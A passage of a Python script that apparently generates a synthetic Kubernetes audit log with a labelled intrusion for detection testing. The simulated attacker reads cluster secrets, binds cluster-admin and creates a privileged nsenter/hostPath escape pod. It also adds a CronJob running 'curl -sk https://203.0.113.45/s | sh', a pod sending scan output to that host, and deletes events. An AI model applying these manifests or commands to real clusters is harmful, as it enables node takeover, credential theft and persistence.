         user=ALICE, ip=ALICE_IP, ua=UA_ALICE, obj=ref("events", ns), reason=R_ALICE)
    for p in pods:
        t += dt.timedelta(seconds=rng.uniform(6, 14))
        emit(t, verb="get", uri=f"/api/v1/namespaces/{ns}/pods/{p}", user=ALICE, ip=ALICE_IP, ua=UA_ALICE,
             obj=ref("pods", ns, p), reason=R_ALICE)
        t += dt.timedelta(seconds=rng.uniform(3, 6))
        emit(t, verb="get", uri=f"/api/v1/namespaces/{ns}/pods/{p}/log?container=api&tailLines=200",
             user=ALICE, ip=ALICE_IP, ua=UA_ALICE, obj=ref("pods", ns, p, sub="log"), reason=R_ALICE)
    t += dt.timedelta(seconds=20)
    emit(t, verb="list", uri="/api/v1/nodes?limit=500", user=ALICE, ip=ALICE_IP, ua=UA_ALICE, obj=ref("nodes"),
         reason=R_ALICE)
    return t


def app_reads(t, pods):
    """Application pods reading their own configuration and secrets through the API."""
    for p, node in pods:
        user = sa_user("prod", "payments-api", p, node)
        t += dt.timedelta(seconds=rng.uniform(1, 3))
        emit(t, verb="get", uri="/api/v1/namespaces/prod/configmaps/payments-api-config", user=user,
             ip=f"10.244.{node[-1]}.{rng.randint(20, 200)}", ua="payments-api/1.8.3",
             obj=ref("configmaps", "prod", "payments-api-config"),
             reason=reason_rb("payments-api", "prod", "Role", "payments-api", "ServiceAccount", "payments-api/prod"))
        emit(t + dt.timedelta(milliseconds=12), verb="get", uri="/api/v1/namespaces/prod/secrets/payments-db",
             user=user, ip=f"10.244.{node[-1]}.{rng.randint(20, 200)}", ua="payments-api/1.8.3",
             obj=ref("secrets", "prod", "payments-db"),
             reason=reason_rb("payments-api", "prod", "Role", "payments-api", "ServiceAccount", "payments-api/prod"))


# ---------------------------------------------------------------------------------------------
# The intrusion

def scanner(t):
    """An internet scanner finds the API server and a namespace readable by anonymous users."""
    ua = "python-requests/2.31.0"
    emit(t, verb="get", uri="/version", user=ANON, ip=SCANNER_IP, ua=ua, reason=R_PUBLIC)
    t += dt.timedelta(seconds=1.1)
    emit(t, verb="get", uri="/api/v1/namespaces/kube-system/secrets", user=ANON, ip=SCANNER_IP, ua=ua,
         obj=ref("secrets", "kube-system"), decision="forbid",
         resp_status=forbidden('secrets is forbidden: User "system:anonymous" cannot list resource "secrets" in API group "" in the namespace "kube-system"', "secrets"),
         attack="anonymous probe denied: list secrets in kube-system")
    t += dt.timedelta(seconds=0.9)
    emit(t, verb="list", uri="/api/v1/pods", user=ANON, ip=SCANNER_IP, ua=ua, obj=ref("pods"), decision="forbid",
         resp_status=forbidden('pods is forbidden: User "system:anonymous" cannot list resource "pods" in API group "" at the cluster scope', "pods"),
         attack="anonymous probe denied: list pods cluster-wide")
    t += dt.timedelta(seconds=1.4)
    emit(t, verb="list", uri="/api/v1/namespaces/default/pods", user=ANON, ip=SCANNER_IP, ua=ua,
         obj=ref("pods", "default"),
         reason=reason_rb("legacy-status-page", "default", "ClusterRole", "view", "Group", "system:unauthenticated"),
         attack="anonymous request ALLOWED: list pods in default (RoleBinding legacy-status-page to system:unauthenticated)")
    t += dt.timedelta(seconds=0.7)
    emit(t, verb="list", uri="/api/v1/namespaces/default/configmaps", user=ANON, ip=SCANNER_IP, ua=ua,
         obj=ref("configmaps", "default"),
         reason=reason_rb("legacy-status-page", "default", "ClusterRole", "view", "Group", "system:unauthenticated"),
         attack="anonymous request ALLOWED: list configmaps in default")


def attacker_recon_and_secrets(t):
    a = dict(user=ATTACKER, ip=ATTACKER_IP, ua=UA_ATTACKER)
    for _ in range(3):
        emit(t, verb="list", uri="/api/v1/namespaces/kube-system/pods?limit=500", user={}, ip=ATTACKER_IP,
             ua=UA_ATTACKER, obj=ref("pods", "kube-system"), stage="ResponseStarted", decision=None,
             resp_status={"metadata": {}, "status": "Failure", "message": "Unauthorized", "reason": "Unauthorized", "code": 401},
             latency_ms=0.2, attack="failed authentication (401): an old, revoked token is tried first")
        t += dt.timedelta(seconds=rng.uniform(2, 4))
    t += dt.timedelta(seconds=40)
    emit(t, verb="create", uri="/apis/authorization.k8s.io/v1/selfsubjectrulesreviews",
         obj=ref("selfsubjectrulesreviews", group="authorization.k8s.io"), code=201, reason=R_ATTACKER, **a)
    t += dt.timedelta(seconds=4)
    emit(t, verb="list", uri="/api/v1/namespaces?limit=500", obj=ref("namespaces"), reason=R_ATTACKER, **a)
    t += dt.timedelta(seconds=6)
    emit(t, verb="list", uri="/api/v1/pods?limit=500", obj=ref("pods"), reason=R_ATTACKER, latency_ms=38.5, **a)
    t += dt.timedelta(seconds=9)
    emit(t, verb="list", uri="/api/v1/secrets?limit=500", obj=ref("secrets"), reason=R_ATTACKER, latency_ms=61.0,
         attack="secrets listed across all namespaces", **a)
    for ns, name in (("prod", "payments-db"), ("kube-system", "aws-cloud-credentials"),
                     ("monitoring", "grafana-admin"), ("cicd", "gitlab-deployer-kubeconfig")):
        t += dt.timedelta(seconds=rng.uniform(8, 20))
        emit(t, verb="get", uri=f"/api/v1/namespaces/{ns}/secrets/{name}", obj=ref("secrets", ns, name),
             reason=R_ATTACKER, attack=f"secret read: {ns}/{name}", **a)
    return t


def attacker_exec(t, pod):
    aid = long_running(t, 94.3, verb="create", user=ATTACKER, ip=ATTACKER_IP, ua=UA_ATTACKER, code=101,
                       uri=f"/api/v1/namespaces/prod/pods/{pod}/exec?command=sh&container=api&stdin=true&stdout=true&tty=true",
                       obj=ref("pods", "prod", pod, sub="exec"), reason=R_ATTACKER,
                       attack=f"kubectl exec into production pod prod/{pod}")
    return aid


def attacker_persistence_binding(t):
    crb = {"kind": "ClusterRoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1",
           "metadata": {"name": "support-ops-admin"},
           "subjects": [{"kind": "User", "apiGroup": "rbac.authorization.k8s.io", "name": "support-ops@example.com"}],
           "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"}}
    resp = copy.deepcopy(crb)
    resp["metadata"].update({"uid": new_uid(), "resourceVersion": "583311", "creationTimestamp": rfc3339(t)})
    emit(t, verb="create", level="RequestResponse",
         uri="/apis/rbac.authorization.k8s.io/v1/clusterrolebindings?fieldManager=kubectl-create&fieldValidation=Strict",
         user=ATTACKER, ip=ATTACKER_IP, ua=UA_ATTACKER,
         obj=ref("clusterrolebindings", name="support-ops-admin", group="rbac.authorization.k8s.io"),
         code=201, req=crb, resp=resp, reason=R_ATTACKER,
         attack="ClusterRoleBinding support-ops-admin: cluster-admin for new user support-ops@example.com")


def attacker_privileged_pod(t):
    ns, name = "default", "node-debugger-7x2k"
    pod = {"kind": "Pod", "apiVersion": "v1",
           "metadata": {"name": name, "namespace": ns, "creationTimestamp": None, "labels": {"run": "node-debugger"}},
           "spec": {"hostPID": True, "hostNetwork": False,
                    "nodeSelector": {"kubernetes.io/hostname": "worker-2"},
                    "tolerations": [{"operator": "Exists"}],
                    "containers": [{"name": "shell", "image": "docker.io/library/alpine:3.19",
                                    "command": ["nsenter", "--target", "1", "--mount", "--uts", "--ipc", "--net", "--pid", "--", "sleep", "infinity"],
                                    "securityContext": {"privileged": True},
                                    "volumeMounts": [{"name": "host-root", "mountPath": "/host"}]}],
                    "volumes": [{"name": "host-root", "hostPath": {"path": "/", "type": "Directory"}}]},
           "status": {}}
    resp = copy.deepcopy(pod)
    resp["metadata"].update({"uid": new_uid(), "resourceVersion": "583402", "creationTimestamp": rfc3339(t)})
    resp["status"] = {"phase": "Pending", "qosClass": "BestEffort"}
    emit(t, verb="create", level="RequestResponse",
         uri=f"/api/v1/namespaces/{ns}/pods?fieldManager=kubectl-create&fieldValidation=Strict",
         user=ATTACKER, ip=ATTACKER_IP, ua=UA_ATTACKER, obj=ref("pods", ns, name), code=201, req=pod, resp=resp,
         reason=R_ATTACKER,
         attack="privileged pod default/node-debugger-7x2k: privileged, hostPID, hostPath / (image docker.io/library/alpine:3.19)")
    t += dt.timedelta(milliseconds=9)
    emit(t, verb="create", level="Request", uri=f"/api/v1/namespaces/{ns}/pods/{name}/binding", user=SCHED, ip=CP_IP,
         ua=UA_SCHED + "/scheduler", obj=ref("pods", ns, name, sub="binding"), code=201,
         req={"kind": "Binding", "apiVersion": "v1", "metadata": {"name": name, "namespace": ns},
              "target": {"kind": "Node", "name": "worker-2"}}, reason=R_SCHED)
    t += dt.timedelta(seconds=3.8)
    emit(t, verb="patch", level="Request", uri=f"/api/v1/namespaces/{ns}/pods/{name}/status",
         user=node_user("worker-2"), ip=NODES["worker-2"], ua=UA_KUBELET, obj=ref("pods", ns, name, sub="status"),
         req={"status": {"phase": "Running", "podIP": NODES["worker-2"]}})
    t += dt.timedelta(seconds=11)
    long_running(t, 212.6, verb="create", user=ATTACKER, ip=ATTACKER_IP, ua=UA_ATTACKER, code=101,
                 uri=f"/api/v1/namespaces/{ns}/pods/{name}/exec?command=sh&container=shell&stdin=true&stdout=true&tty=true",
                 obj=ref("pods", ns, name, sub="exec"), reason=R_ATTACKER,
                 attack="kubectl exec into the privileged pod (a root shell on node worker-2)")
    return name


def attacker_untrusted_image(t):
    ns, name = "prod", "kube-scan"
    pod = {"kind": "Pod", "apiVersion": "v1",
           "metadata": {"name": name, "namespace": ns, "creationTimestamp": None, "labels": {"run": name}},
           "spec": {"containers": [{"name": name, "image": "ghcr.io/r0gue-tools/kube-scan:0.4.1",
                                    "args": ["--subnet", "10.244.0.0/16", "--out", "http://203.0.113.45:8000/up"],
                                    "resources": {}}],
                    "restartPolicy": "Never", "dnsPolicy": "ClusterFirst"},
           "status": {}}
    resp = copy.deepcopy(pod)
    resp["metadata"].update({"uid": new_uid(), "creationTimestamp": rfc3339(t)})
    resp["spec"]["serviceAccountName"] = "default"
    emit(t, verb="create", level="RequestResponse",
         uri=f"/api/v1/namespaces/{ns}/pods?fieldManager=kubectl-run", user=ATTACKER, ip=ATTACKER_IP, ua=UA_ATTACKER,
         obj=ref("pods", ns, name), code=201, req=pod, resp=resp, reason=R_ATTACKER,
         attack="pod prod/kube-scan from an untrusted registry (ghcr.io/r0gue-tools/kube-scan:0.4.1)")
    t += dt.timedelta(milliseconds=7)
    emit(t, verb="create", level="Request", uri=f"/api/v1/namespaces/{ns}/pods/{name}/binding", user=SCHED, ip=CP_IP,
         ua=UA_SCHED + "/scheduler", obj=ref("pods", ns, name, sub="binding"), code=201,
         req={"kind": "Binding", "apiVersion": "v1", "metadata": {"name": name, "namespace": ns},
              "target": {"kind": "Node", "name": "worker-3"}}, reason=R_SCHED)
    t += dt.timedelta(seconds=2.2)
    emit(t, verb="create", uri=f"/api/v1/namespaces/{ns}/serviceaccounts/default/token", user=node_user("worker-3"),
         ip=NODES["worker-3"], ua=UA_KUBELET, obj=ref("serviceaccounts", ns, "default", sub="token"), code=201)


def attacker_cronjob(t):
    ns, name = "kube-system", "kube-proxy-sync"
    cj = {"kind": "CronJob", "apiVersion": "batch/v1",
          "metadata": {"name": name, "namespace": ns, "creationTimestamp": None, "labels": {"k8s-app": "kube-proxy"}},
          "spec": {"schedule": "*/10 * * * *", "concurrencyPolicy": "Forbid",
                   "jobTemplate": {"metadata": {"creationTimestamp": None}, "spec": {"template": {
                       "metadata": {"labels": {"k8s-app": "kube-proxy"}},
                       "spec": {"restartPolicy": "OnFailure", "hostNetwork": False,
                                "containers": [{"name": "sync", "image": "203.0.113.45:5000/tools/sync:1.0",
                                                "command": ["sh", "-c", "curl -sk https://203.0.113.45/s | sh"],
                                                "resources": {}}]}}}}}}
    resp = copy.deepcopy(cj)
    resp["metadata"].update({"uid": new_uid(), "creationTimestamp": rfc3339(t)})
    emit(t, verb="create", level="RequestResponse",
         uri=f"/apis/batch/v1/namespaces/{ns}/cronjobs?fieldManager=kubectl-client-side-apply&fieldValidation=Strict",
         user=ATTACKER, ip=ATTACKER_IP, ua=UA_ATTACKER, obj=ref("cronjobs", ns, name, "batch"), code=201,
         req=cj, resp=resp, reason=R_ATTACKER,
         attack="CronJob kube-system/kube-proxy-sync (image 203.0.113.45:5000/tools/sync:1.0, curl | sh every 10 min)")


def attacker_token(t):
    sa = "clusterrole-aggregation-controller"
    emit(t, verb="create", uri=f"/api/v1/namespaces/kube-system/serviceaccounts/{sa}/token", user=ATTACKER,
         ip=ATTACKER_IP, ua=UA_ATTACKER, obj=ref("serviceaccounts", "kube-system", sa, sub="token"), code=201,
         reason=R_ATTACKER, attack=f"ServiceAccount token requested for kube-system/{sa}")
    stolen = sa_user("kube-system", sa)
    stolen["extra"] = {"authentication.kubernetes.io/credential-id": [f"JTI={new_uid()}"]}
    reason = controller_reason(sa)
    t += dt.timedelta(seconds=37)
    emit(t, verb="create", uri="/apis/authorization.k8s.io/v1/selfsubjectrulesreviews", user=stolen, ip=ATTACKER_IP,
         ua=UA_ATTACKER, obj=ref("selfsubjectrulesreviews", group="authorization.k8s.io"), code=201,
         reason=reason_crb("system:basic-user", "system:basic-user", "Group", "system:authenticated"),
         attack=f"the minted kube-system/{sa} token used with kubectl")
    t += dt.timedelta(seconds=5)
    emit(t, verb="list", uri="/apis/rbac.authorization.k8s.io/v1/clusterroles?limit=500", user=stolen,
         ip=ATTACKER_IP, ua=UA_ATTACKER, obj=ref("clusterroles", group="rbac.authorization.k8s.io"), reason=reason)
    t += dt.timedelta(seconds=12)
    emit(t, verb="get", uri="/apis/rbac.authorization.k8s.io/v1/clusterroles/cluster-admin", user=stolen,
         ip=ATTACKER_IP, ua=UA_ATTACKER, obj=ref("clusterroles", name="cluster-admin", group="rbac.authorization.k8s.io"),
         reason=reason)


def attacker_netpol(t):
    emit(t, verb="delete", level="RequestResponse",
         uri="/apis/networking.k8s.io/v1/namespaces/prod/networkpolicies/default-deny-ingress", user=ATTACKER,
         ip=ATTACKER_IP, ua=UA_ATTACKER,
         obj=ref("networkpolicies", "prod", "default-deny-ingress", "networking.k8s.io"),
         resp_status=status(200, status="Success"),
         req={"kind": "DeleteOptions", "apiVersion": "networking.k8s.io/v1", "propagationPolicy": "Background"},
         resp={"kind": "Status", "apiVersion": "v1", "metadata": {}, "status": "Success",
               "details": {"name": "default-deny-ingress", "group": "networking.k8s.io", "kind": "networkpolicies",
                           "uid": new_uid()}},
         reason=R_ATTACKER, attack="NetworkPolicy prod/default-deny-ingress deleted")


def attacker_cleanup(t, pod):
    emit(t, verb="delete", level="RequestResponse", uri=f"/api/v1/namespaces/default/pods/{pod}", user=ATTACKER,
         ip=ATTACKER_IP, ua=UA_ATTACKER, obj=ref("pods", "default", pod), resp_status=status(200),
         req={"kind": "DeleteOptions", "apiVersion": "v1", "gracePeriodSeconds": 0}, reason=R_ATTACKER)
    for ns in ("default", "kube-system", "prod"):
        t += dt.timedelta(seconds=rng.uniform(3, 6))
        emit(t, verb="deletecollection", uri=f"/api/v1/namespaces/{ns}/events", user=ATTACKER, ip=ATTACKER_IP,
             ua=UA_ATTACKER, obj=ref("events", ns), reason=R_ATTACKER, latency_ms=23.7,
             attack=f"all events of namespace {ns} deleted")


# ---------------------------------------------------------------------------------------------

def build():
    lease_renewals()
    node_heartbeats()
    apiserver_reconcilers()
    health_checks()
    informer_watches()
    kcm_housekeeping()

    at = lambda m, s=0: T0 + dt.timedelta(minutes=m, seconds=s)  # noqa: E731
    sre_session(at(5, 12), ["payments-api-6d4f9b7c8-k9x2m", "payments-api-6d4f9b7c8-t7hqw"])
    scanner(at(11, 41))
    _, pods = ci_deploy(at(14, 3), "prod", "payments-api", "6d4f9b7c8", "7c9d8f6b5",
                        ["payments-api-6d4f9b7c8-k9x2m", "payments-api-6d4f9b7c8-t7hqw"],
                        f"{REGISTRY}/payments/payments-api:1.8.3", "payments-api", secret_env="payments-db")
    app_reads(at(14, 40), pods)
    attacker_recon_and_secrets(at(19, 5))
    attacker_exec(at(26, 18), pods[0][0])
    cronjob_run(at(30, 0, ))
    attacker_persistence_binding(at(31, 27))
    debug_pod = attacker_privileged_pod(at(34, 2))
    attacker_untrusted_image(at(37, 15))
    attacker_cronjob(at(39, 8))
    ci_deploy(at(40, 30), "shop", "cart", "5f7d9c8b4", "84b6c7f9d",
              ["cart-5f7d9c8b4-qm2lp", "cart-5f7d9c8b4-zv8sd"], f"{REGISTRY}/shop/cart:2.4.0", "cart")
    attacker_token(at(42, 16))
    attacker_netpol(at(46, 2))
    sre_session(at(48, 30), [pods[0][0]])
    attacker_cleanup(at(50, 11), debug_pod)

    EVENTS.sort(key=lambda e: (e[0], e[1]))
    return [e for _, _, e in EVENTS]


def main():
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("-o", "--output", default=str(Path(__file__).with_name("audit.log")),
                   help="output file, or - for stdout (default: samples/audit.log)")
    p.add_argument("--list-attacks", action="store_true", help="print the attack events with their line numbers")
    args = p.parse_args()
    events = build()
    lines = [json.dumps(e, separators=(",", ":")) for e in events]
    if args.output == "-":
        sys.stdout.write("\n".join(lines) + "\n")
    else:
        Path(args.output).write_text("\n".join(lines) + "\n")
    if args.list_attacks:
        where = {}
        for n, e in enumerate(events, 1):
            where.setdefault((e["auditID"], e["stage"]), n)
        for aid, stage, what in ATTACKS:
            print(f"line {where[(aid, stage)]:4}  {what}", file=sys.stderr)
        print(f"{len(events)} events", file=sys.stderr)


if __name__ == "__main__":
    main()
